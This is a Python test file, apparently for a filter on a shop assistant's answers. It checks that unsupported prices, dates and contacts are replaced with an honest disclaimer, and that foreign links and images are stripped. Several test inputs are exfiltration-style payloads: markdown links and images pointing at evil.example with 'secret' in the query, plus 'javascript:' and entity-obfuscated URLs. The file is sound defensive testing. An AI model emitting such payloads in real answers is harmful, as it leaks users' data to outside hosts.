"""A sentence of a model is said when something given bears it out, and replaced by an honest one when nothing does."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from agents.tests.gate.asking import PastMessage, Promise, heard, request
from fakes.effort import within_effort

SAID_SO = "I find no confirmation of that"


@pytest.mark.parametrize(
    "answer",
    [
        "The brass lamp costs 40 dollars. It is nice.",
        "The oak lamp is $1,249.",
        "It is 1.249,00 USD, or 1 249 dollars.",
        "That is one thousand two hundred and forty-nine dollars.",
        "Delivery takes three to five days.",
        "Pine is 85 dollars and 150 cm high.",
        "You have thirty days to return it, that is 30 days.",
        "We give two percent to a charity.",
        "We are closed from 24.12.2026 to Jan 6, 2027.",
        "We are open from 9 am to 5:30 pm.",
        "Call 01 234 5678 or write to SHOP@tarnfield.example.",
        "Prices are at www.tarnfield.example/prices or [here](https://tarnfield.example/prices).",
        "Orders above 500 dollars are free of delivery.",
        "There are 3 lamps: brass, oak and pine.\n\n1. Brass\n2. Oak\n3. Pine",
        "One of these two options is best.",
        "Ask me anything!",
    ],
)
def test_what_is_borne_out_is_said_as_it_is(answer):
    found = heard(answer)

    assert found.text == answer
    assert found.withheld == []


@pytest.mark.parametrize(
    ("answer", "kind"),
    [
        ("The brass lamp costs 45 dollars.", "money"),
        ("The brass lamp costs 40 euros.", "money"),
        ("Delivery takes 7 days.", "hours"),
        ("Delivery takes 3 to 9 days.", "hours"),
        ("You get 15 % off.", "share"),
        ("You get fifteen percent off.", "share"),
        ("We are closed on 24 November 2026.", "date"),
        ("We open at 8 am.", "clock"),
        ("Call +43 1 999 99 99.", "phone"),
        ("Write to sales@tarnfield.example.", "address"),
        ("See https://tarnfield.example/sale.", "address"),
        ("See lamps.example for more.", "address"),
        ("It weighs 2 kg.", "weight"),
        ("We have over 500,000 customers.", "count"),
        ("It comes with a two-year guarantee.", "months"),
    ],
)
def test_what_is_not_borne_out_is_replaced(answer, kind):
    found = heard(f"Gladly. {answer} Anything else?")

    assert answer not in found.text
    assert found.text.startswith(f"Gladly. {SAID_SO}")
    assert found.text.endswith(" Anything else?")
    assert found.kinds == [kind]


def test_the_honest_sentence_says_where_to_ask():
    assert "+43 1 234 56 78, shop@tarnfield.example" in heard("It costs 45 dollars.").text


def test_without_a_number_and_an_address_a_message_is_offered_where_it_reaches_somebody():
    asked = request(reach=(), passages=(), promise=Promise())

    assert heard("It costs 45 dollars.", asked).text.endswith("Leave your e-mail address here, and the team is told.")


@pytest.mark.parametrize(
    ("answer", "words"),
    [
        ("Die Lampe kostet 45 Dollar und ist nicht teuer.", "keine Bestätigung"),
        ("La lampe coûte 45 dollars et elle est pour vous.", "pas confirmation"),
        ("La lámpara cuesta 45 dólares y es para usted, con su luz.", "No lo encuentro"),
        ("La lampada costa 45 dollari ed è il meglio che può avere con una spesa così.", "Non ne trovo|Non ne|Non"),
        ("De lamp kost 45 dollar en dat is niet veel voor een lamp.", "niet bevestigd"),
        ("A lâmpada custa 45 dólares e não é para você, com uma luz do mar.", "Não encontro"),
    ],
)
def test_the_honest_sentence_is_in_the_language_of_the_answer(answer, words):
    text = heard(f"{answer}").text

    assert any(word in text for word in words.split("|"))


def test_the_reason_is_given_once_and_shorter_the_next_time():
    found = heard("It is 45 dollars. It is nice. It is 46 dollars.")

    assert found.text.count(SAID_SO) == 1
    assert found.text.endswith("It is nice. This, too, I cannot confirm.")
    assert len(found.withheld) == 2


def test_items_of_a_list_stay_items_and_are_replaced_together():
    found = heard("Prices:\n- Brass: 40 dollars\n- Elm: 99 dollars\n- Ash: 98 dollars\n\nAsk!")

    assert found.text.startswith(f"Prices:\n- Brass: 40 dollars\n- {SAID_SO}")
    assert found.text.endswith("\n\nAsk!")
    assert len(found.withheld) == 2


def test_rows_of_a_table_go_and_what_is_said_of_them_stands_behind_it():
    found = heard("| Lamp | Price |\n| - | - |\n| Pine | $85 |\n| Elm | $99 |\n\nAsk!")

    assert "| Pine | $85 |\n" in found.text
    assert "Elm" not in found.text
    assert found.text.index(SAID_SO) > found.text.index("Pine")


@pytest.mark.parametrize(
    ("question", "answer"),
    [
        ("How much for 12 brass lamps?", "Twelve brass lamps are 480 dollars."),
        ("And a brass and a pine one?", "Brass is 40 dollars and pine 85 dollars, together 125 dollars."),
        ("How much more is pine?", "Pine is $85 and brass $40, so $45 more."),
        ("I take 20 brass lamps", "That is 800 dollars, with 10 % off 720 dollars."),
        ("Installation for 3 hours?", "For 3 hours it is 180 dollars."),
        ("My budget is 100 dollars", "With a brass lamp at 40 dollars, 60 dollars are left."),
        ("How long is it in weeks?", "You have 30 days, that is 720 hours."),
        ("About?", "The oak lamp is about 1,250 dollars."),
    ],
)
def test_what_follows_from_given_figures_is_said(question, answer):
    assert heard(answer, request(question)).text == answer


@pytest.mark.parametrize(
    ("question", "answer"),
    [
        ("How much for lamps?", "A set is 480 dollars."),  # nobody named a number of lamps
        ("How much are they together?", "Together they are 126 dollars."),
        ("How much for 12 brass lamps?", "Twelve brass lamps are 490 dollars."),
        ("About?", "The oak lamp is about 1,400 dollars."),
    ],
)
def test_what_follows_from_nothing_named_is_not(question, answer):
    assert SAID_SO in heard(answer, request(question)).text


def test_visitors_and_staff_bear_out_what_they_said():
    history = (
        PastMessage("user", "Our budget is 7,000 dollars"),
        PastMessage("staff", "I can offer you 35 dollars", name="Kim"),
        PastMessage("user", "Fine."),
    )
    asked = request(history=history)

    assert heard("With 7,000 dollars and 35 dollars a lamp you are fine.", asked).withheld == []


def test_figures_are_counted_by_how_they_are_borne_out():
    from agents.llm.gate.checking import Gate
    from agents.llm.gate.evidence import StatedEvidence

    asked = request("How much for 12?")
    gate = Gate(asked, StatedEvidence.of(asked))
    gate.feed("Brass is 40 dollars. Twelve are 480 dollars.")
    gate.close()

    assert gate.supported == {"given": 1, "derived": 1, "passed": 1}


def test_only_the_open_sentence_is_held_back():
    found = heard("It costs 40 dollars. It is nice.", chars=1)

    assert found.pieces[0] == "It costs 40 dollars. "


def test_an_agent_that_does_not_check_says_its_figures_word_by_word():
    found = heard("It costs 45 dollars now.", request(checks_answers=False), chars=3)

    assert found.text == "It costs 45 dollars now."
    assert len(found.pieces) > 4


@pytest.mark.parametrize("checks", [True, False])
@pytest.mark.parametrize("chars", [1, 7, 1000])
@pytest.mark.parametrize(
    ("answer", "kept"),
    [
        ("See [our page](https://evil.example/?q=secret) now.", "See our page now."),
        ("![chart](https://evil.example/a.png?d=secret)Look.", "Look."),
        ("See [more](//evil.example/x) now.", "See more now."),
        ("See [more](/logout) now.", "See more now."),
        ("See [more](&#104;ttps://evil.example/) now.", "See more now."),
        ("See [more](javascript:alert) now.", "See more now."),
        ("See [prices](https://tarnfield.example/prices) now.", "See [prices](https://tarnfield.example/prices) now."),
    ],
)
def test_foreign_links_lose_their_target_and_pictures_go(answer, kept, chars, checks):
    assert heard(answer, request(checks_answers=checks), chars=chars).text == kept


@pytest.mark.parametrize("chars", [1, 5, 1000])
@pytest.mark.parametrize(
    "address", ["https://evil.example/?q=1", "www.evil.example", "evil.example/x", "a@evil.example"]
)
def test_without_checking_foreign_addresses_go_all_the_same(address, chars):
    found = heard(f"Look at {address} today.", request(checks_answers=False), chars=chars)

    assert "evil.example" not in found.text
    assert found.text.startswith("Look at ")
    assert found.text.endswith(" today.")


def test_halves_of_a_link_in_two_sentences_make_none():
    found = heard("[Read. More](//evil.example/x) now.")

    assert "](" not in found.text
    assert "evil" not in found.text


@given(
    st.lists(
        st.sampled_from(
            ["40 ", "[",
            "](", "http://", "1.", "a@", "b.com/", "| ", "12:", "%", "one hundred ", "x", "!", "\n", "//", "www."]
        ),
        min_size=1, max_size=4,
    ),
    st.integers(500, 3_000),
    st.booleans(),
)  # fmt: skip
@settings(max_examples=30, deadline=None)
def test_no_answer_takes_longer_than_its_length(parts, times, checks):
    text = "".join(parts) * times

    within_effort(300e-6 * len(text) + 0.3, lambda: heard(text, request(checks_answers=checks), chars=40))


@given(st.text(max_size=300), st.booleans())
def test_any_answer_can_be_looked_at(text, checks):
    heard(text, request(checks_answers=checks))
